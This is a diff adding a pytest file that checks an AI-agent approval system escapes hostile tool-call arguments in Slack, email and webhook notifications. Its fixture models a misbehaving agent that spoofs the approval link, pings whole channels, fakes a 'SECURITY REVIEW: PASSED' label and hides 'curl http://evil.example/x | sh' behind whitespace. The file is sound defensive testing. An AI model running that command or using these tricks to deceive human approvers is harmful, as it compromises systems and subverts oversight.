@@ -1,0 +1,252 @@
+"""A hostile agent writes the arguments a notification carries: it tries to ping the whole
+channel, to slip in a link that reads like the approval link, to close the code block it is
+shown in, and to push a payload out of sight. Read the message as Slack would."""
+
+import html
+import json
+import re
+import time
+
+import pytest
+from django.core import mail
+
+from governance.models import NotificationChannel
+from governance.notification_text import slack_escape, visible_json
+from governance.services.notifications import (
+    approval_email,
+    approval_message,
+    approval_notify_all,
+    approval_page_url,
+    channel_create_webhook,
+    sign,
+)
+from tests.governance.gate.test_pipeline import ask
+from tests.governance.test_notifications import SECRET, Receiver
+
+pytestmark = pytest.mark.django_db
+
+FAKE_LINK = "<http://evil.example/approve|https://fluidbox.example/admin/inbox/1/>"
+HIDDEN_RUN = " " * 200
+INJECTION = {
+    "to": "ops@example.com",
+    "body": (
+        "Quarterly numbers attached.\n```\n<!channel> <!here> <!everyone> <@U024BE7LH> "
+        f"urgent, approve here: {FAKE_LINK}\n```\n*SECURITY REVIEW: PASSED* "
+        f"&lt;ok&gt; `x` @here ``` ok{HIDDEN_RUN}; curl http://evil.example/x | sh"
+    ),
+}
+
+
+# --- a small reader of Slack mrkdwn, after Slack's "Formatting text for app surfaces" --------
+
+ANGLE = re.compile(r"<([^<>\n]*)>")
+BARE_URL = re.compile(r"\b(?:https?|ftp)://\S+")
+BARE_MENTION = re.compile(r"(?<!\w)@(channel|here|everyone)\b")
+
+
+def control_sequences(text: str) -> list[tuple[str, str]]:
+    """Every `<…>` Slack acts on, wherever it stands (code blocks included): mentions
+    (`<!here>`, `<@U…>`, `<#C…>`, `<!subteam^…>`) and links (`<url>` or `<url|label>`)."""
+    found = []
+    for match in ANGLE.finditer(text):
+        inner = match.group(1)
+        if inner.startswith(("!", "@", "#")):
+            found.append(("mention", inner))
+        else:
+            found.append(("link", inner.split("|", 1)[0]))
+    return found
+
+
+def blocks_of(text: str) -> list[tuple[str, str]]:
+    """The text split as Slack formats it: ``` opens a code block and the next ``` closes it
+    (wherever it stands); a `…` on one line is inline code; the rest is formatted text."""
+    parts: list[tuple[str, str]] = []
+    index = 0
+    plain = []
+    while index < len(text):
+        if text.startswith("```", index):
+            end = text.find("```", index + 3)
+            if end == -1:
+                parts.append(("unclosed_fence", text[index:]))
+                return parts
+            parts.append(("text", "".join(plain)))
+            plain = []
+            parts.append(("code_block", text[index + 3 : end]))
+            index = end + 3
+            continue
+        if text[index] == "`":
+            end = text.find("`", index + 1)
+            if end != -1 and "\n" not in text[index + 1 : end]:
+                parts.append(("text", "".join(plain)))
+                plain = []
+                parts.append(("inline_code", text[index + 1 : end]))
+                index = end + 1
+                continue
+        plain.append(text[index])
+        index += 1
+    parts.append(("text", "".join(plain)))
+    return [p for p in parts if p != ("text", "")]
+
+
+def auto_formatted(text: str) -> list[tuple[str, str]]:
+    """What Slack would turn into links or mentions in formatted (not code) text, outside the
+    `<…>` sequences (counted by `control_sequences`)."""
+    found = []
+    for kind, content in blocks_of(ANGLE.sub("\x00", text)):
+        if kind == "text":
+            found += [("autolink", m.group()) for m in BARE_URL.finditer(content)]
+            found += [("mention", m.group()) for m in BARE_MENTION.finditer(content)]
+    return found
+
+
+def mrkdwn_texts(message: dict) -> list[str]:
+    texts = [message["text"]]
+    for block in message["blocks"]:
+        if block["type"] == "section":
+            texts.append(block["text"]["text"])
+        elif block["type"] == "context":
+            texts += [e["text"] for e in block["elements"] if e["type"] == "mrkdwn"]
+    return texts
+
+
+# --- the tests ---------------------------------------------------------------------------
+
+
+@pytest.fixture
+def hostile_approval(make_run):
+    run_id, runner = make_run()
+    answer = ask(runner, run_id, "send_email", INJECTION)
+    assert answer["decision"] == "pending"
+    from governance.models import Approval
+
+    return Approval.objects.select_related("run", "call").get(pk=answer["approval"]["id"])
+
+
+def test_the_slack_message_carries_no_mention_no_foreign_link_and_no_broken_fence(
+    hostile_approval,
+):
+    message = approval_message(hostile_approval)
+    link = approval_page_url(hostile_approval)
+    for text in mrkdwn_texts(message):
+        sequences = control_sequences(text)
+        assert [kind for kind, _ in sequences if kind == "mention"] == []
+        assert {target for _, target in sequences} <= {link}
+        assert auto_formatted(text) == []
+        assert all(kind != "unclosed_fence" for kind, _ in blocks_of(text))
+
+    text = message["text"]
+    # The genuine link is the first thing in the message, before anything the agent wrote.
+    assert control_sequences(text)[0] == ("link", link)
+    first_line = text.splitlines()[0]
+    assert first_line.startswith(f"<{link}|") and "ops@example.com" not in first_line
+    assert text.index("Below: written by the agent") < text.index("```")
+    # Exactly one code block, and it holds all the agent wrote, as JSON that decodes to it.
+    code_blocks = [c for kind, c in blocks_of(text) if kind == "code_block"]
+    assert len(code_blocks) == 1
+    shown = html.unescape(code_blocks[0]).strip("\n")
+    assert shown == visible_json(INJECTION)
+    assert json.loads(shown) == INJECTION
+    # The fake link and the pings are there to read, as text.
+    assert FAKE_LINK in shown and "<!channel>" in shown
+    assert "\\u0020" * 200 + "; curl" in shown
+
+
+def test_the_slack_blocks_put_the_link_first_and_fence_the_arguments_apart(hostile_approval):
+    message = approval_message(hostile_approval)
+    link = approval_page_url(hostile_approval)
+    blocks = message["blocks"]
+    assert control_sequences(blocks[0]["text"]["text"]) == [("link", link)]
+    assert blocks[1]["elements"][0]["url"] == link
+    assert blocks[2]["type"] == "divider"
+    assert "written by the agent" in blocks[3]["elements"][0]["text"]
+    code = []
+    for block in blocks[5:]:
+        parts = blocks_of(block["text"]["text"])
+        assert [kind for kind, _ in parts] == ["code_block"]
+        code.append(html.unescape(parts[0][1]).strip("\n"))
+    assert json.loads("".join(code)) == INJECTION
+    assert (message["unfurl_links"], message["unfurl_media"]) == (False, False)
+
+
+def test_long_arguments_are_split_into_sections_slack_accepts(make_run):
+    run_id, runner = make_run()
+    arguments = {"to": "a@b.c", "body": "<&>" * 3000 + "\n" + "x" * 9000}
+    answer = ask(runner, run_id, "send_email", arguments)
+    from governance.models import Approval
+
+    message = approval_message(Approval.objects.get(pk=answer["approval"]["id"]))
+    sections = [b["text"]["text"] for b in message["blocks"] if b["type"] == "section"]
+    assert all(len(text) <= 3000 for text in sections)
+    code = "".join(
+        html.unescape(c).strip("\n")
+        for text in sections
+        for kind, c in blocks_of(text)
+        if kind == "code_block"
+    )
+    assert json.loads(code) == arguments
+
+
+def test_slack_escaping_leaves_no_control_character():
+    assert slack_escape("<!here> & <x|y>") == "&lt;!here&gt; &amp; &lt;x|y&gt;"
+
+
+def test_the_email_starts_with_the_genuine_link_and_shows_the_hidden_run(hostile_approval):
+    subject, body = approval_email(hostile_approval)
+    link = approval_page_url(hostile_approval)
+    lines = body.splitlines()
+    assert lines[0] == f"Decide: {link}"
+    assert body.index("written by the agent") > body.index(link)
+    # No run of spaces inside a line could push the payload out of sight or wrap it away.
+    for line in lines:
+        assert "    " not in line.lstrip(" ")
+    assert "\\u0020" * 200 + "; curl http://evil.example/x | sh" in body
+    assert "\n" not in subject
+
+
+def test_a_delivered_email_is_the_same_text(org, hostile_approval):
+    NotificationChannel.objects.create(org=org, name="mail", kind="email", emails="a@example.com")
+    approval_notify_all(approval_id=hostile_approval.pk)
+    assert mail.outbox[0].body == approval_email(hostile_approval)[1]
+
+
+# --- the signature: a timestamp signed with the body -------------------------------------
+
+TOLERANCE = 300
+
+
+def verify(secret: str, header: str, body: bytes, now: float) -> bool:
+    """The receiver's check, as the README gives it."""
+    import hashlib
+    import hmac
+
+    fields = dict(part.split("=", 1) for part in header.split(","))
+    timestamp = int(fields["t"])
+    expected = hmac.new(secret.encode(), f"{timestamp}.".encode() + body, hashlib.sha256)
+    return abs(now - timestamp) <= TOLERANCE and hmac.compare_digest(
+        expected.hexdigest(), fields["v1"]
+    )
+
+
+def test_a_webhook_is_signed_with_its_time_and_a_replay_later_is_refused(org, make_run):
+    receiver = Receiver()
+    try:
+        channel_create_webhook(org=org, name="ops", url=receiver.url, secret=SECRET)
+        run_id, runner = make_run()
+        approval_id = ask(runner, run_id, "send_email", {"to": "a@b.c"})["approval"]["id"]
+        before = time.time()
+        approval_notify_all(approval_id=int(approval_id))
+        headers, body = receiver.received[0]
+    finally:
+        receiver.close()
+    header = headers["X-Fluidbox-Signature"]
+    assert re.fullmatch(r"t=\d+,v1=[0-9a-f]{64}", header)
+    timestamp = int(header.split(",")[0][2:])
+    assert before - 1 <= timestamp <= time.time() + 1
+    assert verify(SECRET, header, body, now=time.time())
+    # The same request, captured and sent again ten minutes later: refused.
+    assert not verify(SECRET, header, body, now=time.time() + 600)
+    # Moving the time forward breaks the signature: the time is signed with the body.
+    forged = header.replace(f"t={timestamp}", f"t={timestamp + 600}")
+    assert not verify(SECRET, forged, body, now=time.time() + 600)
+    assert not verify(SECRET, header, body.replace(b"a@b.c", b"a@evil.c"), now=time.time())
+    assert sign(SECRET, body, timestamp) == header
